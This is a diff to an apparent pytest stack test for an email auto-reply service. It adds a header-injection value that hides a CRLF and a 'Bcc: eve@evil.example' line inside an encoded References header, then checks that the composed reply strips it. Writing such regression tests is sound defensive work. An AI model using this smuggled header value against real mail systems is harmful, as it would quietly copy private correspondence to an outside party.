@@ -3,11 +3,14 @@
 import uuid
 from datetime import UTC, datetime, timedelta
 from email.message import EmailMessage
+from hashlib import sha256
 from typing import Any
 
 import boto3
 import pytest
 
+from countersign.adapters.rfc5322.compose import compose
+from countersign.domain.actions import SendReply
 from countersign.domain.values import rfc3339
 from infra.local.cloud import Cloud
 from tests.stack.person import Person, eventually
@@ -15,6 +18,7 @@ from tests.stack.person import Person, eventually
 pytestmark = pytest.mark.stack
 
 ANA = "ana@lima.example"
+POISON = "<=?utf-8?q?x=0d=0aBcc=3A_eve=40evil.example?=>"
 
 
 def _on_the_pro_plan(cloud: Cloud, sam: Person) -> None:
@@ -37,7 +41,7 @@ def _on_the_pro_plan(cloud: Cloud, sam: Person) -> None:
     )
 
 
-def _mail(sam: Person, sender: str, to: str, text: str, *labels: str) -> None:
+def _mail(sam: Person, sender: str, to: str, text: str, *labels: str, chain: str = "") -> None:
     mail = EmailMessage()
     mail["Authentication-Results"] = (
         f"mx.google.com; dmarc=pass header.from={sender.partition('@')[2]}"
@@ -45,7 +49,9 @@ def _mail(sam: Person, sender: str, to: str, text: str, *labels: str) -> None:
     mail["From"], mail["To"], mail["Subject"] = sender, to, f"Plans {uuid.uuid4().hex[:6]}"
     mail["Message-ID"] = f"<{uuid.uuid4().hex}@{sender.partition('@')[2]}>"
     mail.set_content(text)
-    wanted: dict[str, Any] = {"account": sam.mailbox, "raw": mail.as_string()}
+    # By hand: the library would decode what it hides, and write a Bcc into the mail that arrives.
+    raw = f"References: {chain}\n{mail.as_string()}" if chain else mail.as_string()
+    wanted: dict[str, Any] = {"account": sam.mailbox, "raw": raw}
     sam.place.sandbox("POST", "/mail", json=wanted | ({"label_ids": labels} if labels else {}))
 
 
@@ -81,7 +87,8 @@ def test_a_rule_sends_as_often_as_it_may_and_the_rest_asks(cloud: Cloud, sam: Pe
     )
     _mail(sam, sam.mailbox, ANA, "Hello Ana, thank you for the tour.", "SENT")
     for _ in range(2):
-        _mail(sam, ANA, sam.mailbox, "Hello Sam,\n\nCould you send me the contract?\n\nAna\n")
+        text = "Hello Sam,\n\nCould you send me the contract?\n\nAna\n"
+        _mail(sam, ANA, sam.mailbox, text, chain=POISON)
     sam.scan(agent)
 
     def settled() -> list[dict[str, Any]] | None:
@@ -99,3 +106,7 @@ def test_a_rule_sends_as_often_as_it_may_and_the_rest_asks(cloud: Cloud, sam: Pe
     assert shown["used_today"] == 1
     types = [event["type"] for event in sam.ok("GET", f"/tasks/{done['id']}/events")["items"]]
     assert types[:2] == ["proposed", "approved"]
+    assert "=?" not in done["action"]["references"]
+    written = compose(SendReply.model_validate(done["action"]), f"{done['id']}.1.draft")
+    assert b"\nBcc" not in written
+    assert done["result"]["sha256"] == sha256(written).hexdigest()
